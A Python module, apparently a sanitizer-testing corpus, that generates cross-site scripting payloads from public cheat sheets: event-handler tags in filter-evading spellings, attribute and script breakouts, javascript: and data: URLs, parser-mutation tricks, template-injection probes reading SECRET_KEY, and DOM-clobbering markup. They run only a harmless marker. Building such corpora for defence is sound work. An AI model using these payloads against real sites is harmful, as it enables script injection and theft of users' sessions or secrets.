"""Strings that try to run something in whoever's browser shows them.

Made of the parts that the public literature names (OWASP's XSS filter evasion cheat sheet, the
PortSwigger cheat sheet, html5sec.org): every element that can run something by itself, with every
event it has, in the spellings that filters miss; ways out of attributes, titles, scripts and JSON;
addresses that run; mutations that parsers make of what was harmless.
"""

from itertools import product

RUNS = "window.hostile=1"
EVENTS = (
    *("onload", "onerror", "onfocus", "onmouseover", "onclick", "onanimationstart", "ontoggle"),
    *("onpageshow", "onbegin", "onwheel", "onpointerenter", "oncut", "onscroll", "onbeforetoggle"),
)
ELEMENTS = (
    *("img src=x", "svg", "body", "iframe src=/", "video src=x", "audio src=x", "input autofocus"),
    *("details open", "select autofocus", "textarea autofocus", "object data=x", "embed src=x"),
    *("marquee", "math", "style", "link rel=stylesheet href=x", "p tabindex=1", "form", "table"),
    *("a href=x", "button popover=auto", "keygen autofocus", "isindex", "template", "frameset"),
)
SPELLINGS = (
    "<{element} {event}={code}>",
    "<{element} {event}='{code}'/>",
    '"><{element} {event}="{code}">',
    "<{element}/{event}={code}//",
    "<{element}\n{event}\n=\n{code}>",
)
BREAKS = (
    *('"', "'", ">", "`", "'>", '">', "-->", "</title>", "</textarea>", "</script>", "</style>"),
    *("</noscript>", "]]>", "</xmp>", "\\", "\\\\'", "\u2028", "%>", "{{", "}}", "&quot;&gt;"),
    *("</p>", "</a>", "</h1>", "</iframe>", "</svg>", "*/", "?>", "</template>", "\r\n\r\n"),
)
PAYLOADS = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt >{RUNS}</sCrIpT>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "<img src=x onerror=&#119;indow.hostile=1>",
)
ADDRESSES = (
    "javascript:window.hostile=1",
    "JaVaScRiPt:window.hostile=1",
    "java\tscript:window.hostile=1",
    "java\nscript:window.hostile=1",
    " javascript:window.hostile=1",
    "\x01javascript:window.hostile=1",
    "javascript&colon;window.hostile=1",
    "&#106;avascript:window.hostile=1",
    "&#x6A&#x61vascript:window.hostile=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.hostile=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=window.hostile=1>",
    "//x.example/a.js",
    "feed:javascript:window.hostile=1",
    "jar:javascript:window.hostile=1!/",
    "view-source:javascript:window.hostile=1",
    "blob:http://x.example/1",
)
AROUND = (
    '<a href="{0}">x</a>',
    "<a href={0}>x</a>",
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<img src="{0}">',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<svg><use href="{0}"/></svg>',
    '<math href="{0}">x</math>',
    '<meta http-equiv="refresh" content="0;url={0}">',
    '<base href="{0}">',
    '<link rel="stylesheet" href="{0}">',
    '<p style="background:url({0})">x</p>',
    '<button formaction="{0}">x</button>',
    "{0}",
)
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUNS}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<svg><style><!--</style><img src=x onerror={RUNS}>--></style></svg>",
    f'<xmp><p title="</xmp><img src=x onerror={RUNS}>">',
    f'<table><td background="javascript:{RUNS}">',
    f"<select><template><img src=x onerror={RUNS}></template></select>",
    f"<!--><img src=x onerror={RUNS}>-->",
    f"<![CDATA[<img src=x onerror={RUNS}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUNS}>",
    f"<%<!--'%><script>{RUNS}</script -->",
    f"<img src=`x`onerror={RUNS}>",
    f"<a\u3000onclick={RUNS}>x",
    f"＜script＞{RUNS}＜/script＞",
    f"\ufeff<script>{RUNS}</script>",
    f"<s\u0000cript>{RUNS}</script>",
    f"\u202e<script>{RUNS}</script>",
    "{% load x %}{{ settings.SECRET_KEY }}",
    "${7*7}#{7*7}{{7*7}}<%= 7*7 %>",
    f"'-{RUNS}-'",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"%3Cscript%3E{RUNS}%3C/script%3E",
    '<style>@import "//x.example/a.css";</style>',
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    '<input type="hidden" accesskey="X" onclick="window.hostile=1">',
    '<a href="#" id="getElementById" name="body">x</a>',
    '<img name="querySelector"><form id="documentElement">',
)


def strings() -> list[str]:
    """All of them, in an order that stays."""
    found = [
        spelling.format(element=element, event=event, code=RUNS)
        for (number, element), event in product(enumerate(ELEMENTS), EVENTS)
        for spelling in (SPELLINGS[(number + EVENTS.index(event) + at) % 5] for at in (0, 2))
    ]
    found += [way_out + payload for way_out, payload in product(BREAKS, PAYLOADS)]
    found += [around.format(address) for around, address in product(AROUND, ADDRESSES)]
    found += MUTATIONS
    found += PAYLOADS
    found += [text.replace("<", "&lt;", 1) for text in PAYLOADS]
    return list(dict.fromkeys(found))
